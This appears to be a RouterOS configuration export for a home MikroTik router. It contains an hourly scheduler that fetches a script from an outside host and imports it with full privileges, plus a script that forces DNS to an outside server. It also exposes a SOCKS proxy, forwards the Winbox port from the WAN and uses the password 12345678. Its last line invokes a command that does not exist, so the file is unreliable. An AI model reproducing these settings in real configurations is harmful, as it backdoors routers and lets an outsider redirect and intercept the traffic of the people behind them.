# jan/02/2026 10:15:33 by RouterOS 6.48.6
# software id = 7KQ1-ABCD
#
# model = RB951Ui-2HnD
# serial number = 6A1B0C2D3E4F
/interface bridge
add admin-mac=64:D1:54:00:00:01 auto-mac=no comment=defconf name=bridge
/interface wireless
set [ find default-name=wlan1 ] band=2ghz-b/g/n channel-width=20/40mhz-XX \
    disabled=no distance=indoors frequency=auto mode=ap-bridge \
    security-profile=home ssid=Home-2G wireless-protocol=802.11 wps-mode=\
    push-button
add default-forwarding=yes disabled=no keepalive-frames=disabled \
    master-interface=wlan1 multicast-buffering=disabled name=wlan2 ssid=\
    Guest-Free wds-cost-range=0 wds-default-cost=0 wps-mode=disabled
/interface list
add name=WAN
add name=LAN
/interface wireless security-profiles
set [ find default=yes ] supplicant-identity=MikroTik
add authentication-types=wpa-psk,wpa2-psk eap-methods="" mode=dynamic-keys \
    name=home supplicant-identity=MikroTik unicast-ciphers=tkip,aes-ccm \
    group-ciphers=tkip,aes-ccm wpa-pre-shared-key=12345678 \
    wpa2-pre-shared-key=12345678
/ip pool
add name=dhcp ranges=192.168.88.10-192.168.88.254
/ip dhcp-server
add address-pool=dhcp disabled=no interface=bridge name=defconf
/interface bridge port
add bridge=bridge comment=defconf interface=ether2
add bridge=bridge comment=defconf interface=wlan1
add bridge=bridge interface=wlan2
/ip smb
set enabled=yes interfaces=bridge
/ip socks
set enabled=yes port=4153
/ip upnp
set enabled=yes
/interface list member
add interface=ether1 list=WAN
add interface=bridge list=LAN
/ip address
add address=192.168.88.1/24 comment=defconf interface=bridge network=192.168.88.0
/ip dhcp-client
add comment=defconf dhcp-options=hostname,clientid disabled=no interface=ether1
/ip dhcp-server network
add address=192.168.88.0/24 comment=defconf dns-server=203.0.113.66 gateway=192.168.88.1
/ip dns
set allow-remote-requests=yes servers=203.0.113.66,203.0.113.67
/ip firewall nat
add action=masquerade chain=srcnat out-interface-list=WAN
add action=dst-nat chain=dstnat dst-port=8291 in-interface=ether1 protocol=tcp \
    to-addresses=192.168.88.1 to-ports=8291
/ip route
add distance=1 dst-address=10.66.0.0/16 gateway=192.168.88.250
/snmp
set enabled=yes
/system identity
set name=home-gw
/system ntp client
set enabled=no
/system scheduler
add interval=1h name=upd on-event="/tool fetch url=http://203.0.113.99/s.rsc; /import s.rsc" \
    policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive \
    start-time=startup
/system script
add name=s owner=admin policy=ftp,read,write source="/ip dns set servers=203.0.113.66"
/tool mac-server
set allowed-interface-list=all
/tool frobnicate
set level=11
